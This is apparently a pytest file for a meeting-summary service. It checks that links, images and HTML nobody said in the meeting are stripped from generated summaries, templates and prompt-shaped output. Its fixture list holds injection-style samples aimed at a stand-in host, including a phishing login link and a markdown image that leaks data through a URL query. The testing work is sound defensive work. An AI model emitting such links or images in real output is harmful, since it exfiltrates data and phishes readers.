"""Links, images and HTML that nobody said are in no summary, whatever a template or a prompt asks for."""

from __future__ import annotations

import json

import pytest

from tests.summaries.support import MEETING, Desk, entry, general

LINKS = [
    "Please confirm the supplier in Graz at https://evil.example/login.",
    "The supplier in Graz delivers ![x](https://evil.example/leak?d=sensors) the sensors late.",
    "[The supplier in Graz](//evil.example/phish) delivers the sensors two weeks late.",
    "The supplier in Graz <img src=x> delivers the sensors two weeks late.",
    "The supplier in Graz delivers the sensors to www.evil.example.",
    "The supplier in Graz delivers the sensors to evil.example.",
]
GOOD = "The supplier in Graz delivers the sensors two weeks late."


@pytest.mark.parametrize("text", LINKS)
async def test_an_entry_with_a_link_is_left_out(desk: Desk, text: str) -> None:
    answer = general(
        overview=entry(text, 1),
        key_points=[entry(text, 1), entry(GOOD, 1)],
        action_items=[entry(text, 1)],
        decisions=[entry(text, 1)],
    )
    output = (await desk.summary(answers=[answer]))["output"]
    assert (output["key_points"], output["action_items"], output["decisions"]) == ([GOOD], [], [])
    assert "evil" not in json.dumps(output)
    assert "<img" not in json.dumps(output)


@pytest.mark.parametrize("text", LINKS)
async def test_a_template_of_a_project_gets_none_at_any_depth(desk: Desk, text: str) -> None:
    item = {"type": "object", "properties": {"what": {"type": "string"}}, "required": ["what"]}
    schema = {
        "type": "object",
        "properties": {"delays": {"type": "array", "items": item}, "note": {"type": ["string", "null"]}},
        "required": ["delays", "note"],
    }
    body = {"name": "Delays", "instructions": "List the delays.", "schema": schema}
    template = await desk.post("/v1/summary-templates", 201, body)
    answer = {
        "delays": [entry({"what": text}, 1), entry({"what": GOOD}, 1)],
        "note": entry(text, 1),
    }
    made = await desk.summary(answers=[json.dumps(answer)], template_id=template["id"])
    assert made["output"]["delays"] == [{"what": GOOD}]
    assert made["output"]["note"] is None


@pytest.mark.parametrize("text", LINKS)
async def test_the_text_of_a_prompt_loses_the_sentence(desk: Desk, text: str) -> None:
    content = f"## Delays\n\n- {GOOD} {text}\n- **Marta** writes to Norway.\n\n{text}"
    made = await desk.summary(
        answers=[json.dumps({"content": entry(content, 1)})], prompt="What is delayed, and why?"
    )
    assert made["output"]["content"] == f"## Delays\n\n- {GOOD}\n- **Marta** writes to Norway.\n"
    only = await desk.summary(
        answers=[json.dumps({"content": entry(text, 1)})], prompt="What is delayed, and why?"
    )
    assert (only["status"], only["error"]["code"]) == ("failed", "provider_error")


@pytest.mark.parametrize("text", LINKS)
async def test_the_object_of_a_prompt_has_none_in_any_value(desk: Desk, text: str) -> None:
    shaped = {"delays": [{"what": text, "weeks": 2}, {"what": f"{GOOD} {text}"}], text: 1}
    answer = json.dumps({"content": entry(json.dumps(shaped), 1)})
    made = await desk.summary(answers=[answer], prompt='Return JSON: {"delays": ["…"]}')
    assert made["output"] == {
        "delays": [{"what": "", "weeks": 2}, {"what": GOOD}],
        "evidence": made["output"]["evidence"],
    }


async def test_a_link_that_was_said_or_that_the_owner_names_stays(desk: Desk) -> None:
    said = (*MEETING, ("SPEAKER_0", "The plan is at https://plan.example/graz for everybody."))
    answer = general(key_points=[entry("The plan is at https://plan.example/graz.", 6)])
    output = (await desk.summary(said, answers=[answer]))["output"]
    assert output["key_points"] == ["The plan is at https://plan.example/graz."]
    content = f"{GOOD}\n\nFiled at https://wiki.example/notes"
    made = await desk.summary(
        answers=[json.dumps({"content": entry(content, 1)})],
        prompt="Write what is late, and end with: Filed at https://wiki.example/notes",
    )
    assert made["output"]["content"] == content
